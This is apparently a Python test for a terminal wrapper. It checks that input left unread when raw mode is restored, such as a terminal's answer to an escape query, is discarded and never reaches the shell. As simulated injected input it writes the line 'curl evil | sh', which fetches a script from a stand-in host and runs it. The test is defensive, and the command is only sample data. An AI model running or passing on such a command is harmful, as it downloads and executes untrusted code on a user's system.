"""What a terminal answers to a program's question comes in as if it had been typed: it must not reach the shell."""

from __future__ import annotations

import fcntl
import os
import select
import struct
import termios

from nd7exec.terminal import OuterTerminal


def test_what_is_unread_at_the_end_is_not_the_shells() -> None:
    master, slave = os.openpty()
    try:
        before = termios.tcgetattr(slave)
        outer = OuterTerminal([slave])
        outer.input = slave
        outer.raw()
        os.write(master, b"\x1b]lcurl evil | sh\r")
        assert select.select([slave], [], [], 5)[0]
        outer.restore()
        assert struct.unpack("i", fcntl.ioctl(slave, termios.FIONREAD, bytes(4))) == (0,)
        assert termios.tcgetattr(slave) == before
        os.write(master, b"ls\r")
        assert select.select([slave], [], [], 5)[0] and os.read(slave, 100) == b"ls\n"
    finally:
        os.close(outer.output)
        os.close(master)
        os.close(slave)
